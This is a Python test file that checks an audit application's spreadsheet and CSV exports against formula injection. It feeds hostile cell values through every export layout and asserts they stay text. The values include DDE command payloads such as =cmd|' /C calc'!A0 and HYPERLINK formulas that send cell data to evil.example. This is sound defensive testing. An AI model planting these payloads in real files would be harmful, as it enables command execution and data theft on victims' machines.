"""Nothing that anybody typed is a formula in any file, in the file or once its cell is edited."""

from __future__ import annotations

import csv
import io
from dataclasses import fields
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import Column

from s11audit.exports.history import as_text
from s11audit.exports.layout import REPEATS, Layout, layout_named
from s11audit.exports.plain_text import FORMULA_STARTS
from s11audit.exports.workbook import write_workbook
from s11audit.paths import EXPORTS
from tests.exports.test_layouts import NO_WORKBOOKS
from tests.furnished import TOKENS, Furnished, post
from tests.spoilt import spoilt_stage
from tests.web.test_access import address, rules

pytestmark = pytest.mark.slow

WIDE = "\uff1d\uff0b\uff0d\uff20"
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", *WIDE, " =", "\u00a0="]
COMMANDS = ["=cmd|' /C calc'!A0", "+1+cmd|'/C x'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")',
            "@SUM(1+1)*cmd|'/C x'!A0", "-2+3+cmd|' /C x'!A0", "=WEBSERVICE(A1)"]  # fmt: skip
ENDING = "zqf(1)"
LAYOUTS = sorted(path.stem for path in EXPORTS.glob("*.yaml") if path.stem not in NO_WORKBOOKS)
MOMENT = datetime(2026, 11, 3, tzinfo=UTC)


class Typed:
    """A row that has the same text in every column, and in every item of a repeated one."""

    def __init__(self, text: str) -> None:
        self._text = text

    def __getattr__(self, name: str) -> Any:
        return Repeated(self._text)


class Repeated(str):
    def __getitem__(self, key: Any) -> Any:
        return super().__getitem__(key) if isinstance(key, int | slice) else str(self)


def facts_of(layout: Layout, text: str) -> Any:
    return layout.facts(*(text for _ in fields(layout.facts)))


@pytest.mark.parametrize("text", [*(f"{start}{ENDING}" for start in STARTS), *COMMANDS])
@pytest.mark.parametrize("name", LAYOUTS)
def test_every_column_of_every_layout_holds_text(name: str, text: str) -> None:
    layout = layout_named(name)
    tables = [table for sheet in layout.sheets for table in sheet.tables]
    rows = {table.row_class: [Typed(text)] for table in tables}
    stream = io.BytesIO()
    repeats = {name: [("leadership", text)] for name in REPEATS}
    write_workbook(layout, facts_of(layout, text), rows, stream, written_at=MOMENT, repeats=repeats)
    cells = cells_of(stream.getvalue())
    typed = [cell for cell in cells if str(cell.value).strip() == text.strip()]
    assert len(typed) >= sum(len(table.columns) for table in tables)
    assert bad_cells(cells) == []


def cells_of(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


def bad_cells(cells: list[Any]) -> list[str]:
    """Cells that are formulas, or would be once somebody edits them."""
    return [
        f"{cell.parent.title}!{cell.coordinate}: {cell.value!r}"
        for cell in cells
        if cell.data_type == "f" or (is_formula(cell.value) and not _stays_text(cell))
    ]


def _stays_text(cell: Any) -> bool:
    """Whether what is typed into it is text: by its apostrophe, or by its format."""
    return bool(cell.quotePrefix) or cell.number_format == "@"


def is_formula(value: object) -> bool:
    return isinstance(value, str) and (
        value.startswith(("\t", "\r", "\n")) or value.lstrip().startswith(tuple("=+-@" + WIDE))
    )


def formula(column: Column[Any]) -> str:
    longest = getattr(column.type, "length", None) or 1_000
    return '=HYPERLINK("https://evil.example","zq")'[:longest]


@pytest.mark.parametrize("who", ["Priya", "Asif"])
def test_every_file_of_the_application_holds_text(furnished: Furnished, who: str) -> None:
    """Whatever a new route lets people take away, it is looked at like the others."""
    seen: dict[str, int] = {}
    with spoilt_stage(furnished, who, formula, formula(Column("any"))) as stage:
        for place in files(stage.app):
            response = stage.pages.client.get(place)
            content = response.get_data()
            if response.status_code != 200 or "Content-Disposition" not in response.headers:
                continue
            if content.startswith(b"PK") and response.mimetype.endswith("sheet"):
                cells = cells_of(content)
                assert bad_cells(cells) == [], place
                seen[place] = sum("zq" in str(cell.value) for cell in cells)
            elif response.mimetype == "text/csv":
                lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
                assert [cell for line in lines for cell in line if is_formula(cell)] == [], place
                seen[place] = len(lines)
    assert {Path(place).name for place in seen} >= FILES[who]
    assert all(seen.values()), seen


def test_the_file_of_links_holds_text(furnished: Furnished) -> None:
    """The only file that is an answer to a form."""
    with spoilt_stage(furnished, "Priya", formula, formula(Column("any"))) as stage:
        content = post(stage, TOKENS).get_data().decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(content)) for cell in line]
    assert sum("zq" in cell for cell in cells) >= 2
    assert [cell for cell in cells if is_formula(cell)] == []


FILES = {
    "Priya": {"compliance.xlsx", "history.csv", "template", "form.xlsx", "definition.xlsx"},
    "Asif": {"return.xlsx", "form.xlsx"},
}


def files(app: Flask) -> list[str]:
    """Where something can be taken from, of the spoilt questionnaire where it is of one."""
    found = [address(rule) for rule in rules(app, "GET")]
    return [place.replace("/small/", "/spoilt/") for place in found]


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_of_a_csv_file_begins_with_no_formula(start: str) -> None:
    assert as_text(f"{start}{ENDING}") == f"'{start}{ENDING}"
    assert as_text("3 = 2 + 1") == "3 = 2 + 1"
    assert set(FORMULA_STARTS) >= {one[0] for one in STARTS if not one[0].isspace()}
